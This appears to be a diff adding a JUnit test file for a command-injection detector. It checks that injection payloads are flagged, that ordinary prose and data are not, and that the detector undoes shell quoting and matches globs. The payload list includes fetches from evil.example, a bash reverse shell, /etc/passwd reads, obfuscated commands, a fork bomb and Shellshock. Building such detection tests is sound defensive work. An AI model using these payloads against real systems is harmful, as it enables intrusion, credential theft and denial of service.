@@ -1,0 +1,100 @@
+package dev.palisade.detection.input;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertNull;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class CommandInjectionDetectorTest {
+    private static Detection cmdi(String value) {
+        return Inspect.with(Category.CMDI, value);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "; id",
+        "127.0.0.1; cat /etc/passwd",
+        "x | whoami",
+        "a || wget http://evil.example/s.sh",
+        "1 && curl -s http://evil.example",
+        "`id`",
+        "$(whoami)",
+        "foo;ls${IFS}-la",
+        "x;cat$IFS/etc/passwd",
+        "test\nuname -a",
+        "\\nid\\n",
+        "& dir C:\\",
+        "| type C:\\Windows\\win.ini",
+        "&& net user",
+        "; c'a't /e't'c/pa's'swd",
+        "; w\\ho\\am\\i",
+        "/bin/ca? /et*/passwd",
+        "{cat,/etc/passwd}",
+        "() { :;}; /bin/bash -c 'id'",
+        ":(){ :|:& };:",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "cat /etc/passwd",
+        "ls -la /var/www",
+        "FOR /F \"tokens=*\" %a IN ('dir /b') DO echo %a",
+        "IF EXIST C:\\boot.ini ECHO found",
+        "<!--#exec cmd=\"/bin/ls\" -->",
+        ";system('id')",
+        "\r\nRCPT TO:<victim@example.com>",
+        "; sleep 5",
+    })
+    void detectsCommandsAShellWouldRun(String value) {
+        assertNotNull(cmdi(value), Inspect.describe(Category.CMDI, value));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "Times & Schedule",
+        "Johnson & Johnson; est. 1886",
+        "hello; time he came",
+        "a hero; more than that",
+        "mammal;cat;ears",
+        "ping pong tables",
+        "time is of the essence",
+        "The zip on my coat is stuck",
+        "echo in the mirror",
+        "Rock & Roll | Blues",
+        "red;$5 each",
+        "https://example.com/?a=1&b=2;c=3",
+        "user@example.com",
+        "{\"cmd\": \"list\", \"ids\": [1, 2]}",
+        "if all else fails call grandma",
+        "myfunction(){ echo hello }",
+        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36",
+        "We received this mail from Mars",
+        "Hello! World.\ndata not found.\n",
+        "The parameter 5 is&|.",
+        "5 * 3 = 15; 6 / 2 = 3",
+        "`social sciences'",
+    })
+    void leavesProseAndDataAlone(String value) {
+        assertNull(cmdi(value), Inspect.describe(Category.CMDI, value));
+    }
+
+    @Test
+    void ratesASeparatorThenACommandHigh() {
+        Detection d = cmdi("x; uname -a");
+        assertEquals(Confidence.HIGH, d.confidence());
+        assertEquals("cmdi.command", d.reason());
+    }
+
+    @Test
+    void undoesQuotingBeforeMatchingCommandNames() {
+        ShellTokens t = ShellLexer.tokenize("c'a't \"/e\"tc/pa\\sswd");
+        assertEquals("cat", t.words.substring(t.wordStart[0], t.wordEnd[0]));
+        assertEquals("/etc/passwd", t.words.substring(t.wordStart[1], t.wordEnd[1]));
+    }
+
+    @Test
+    void matchesGlobsAgainstKnownPaths() {
+        assertEquals("/bin/cat", ShellGlob.firstMatch("/???/??t", 0, 8, ShellVocabulary.GLOB_TARGETS));
+        assertNull(ShellGlob.firstMatch("/*", 0, 2, ShellVocabulary.GLOB_TARGETS), "'*' does not cross '/'");
+    }
+}
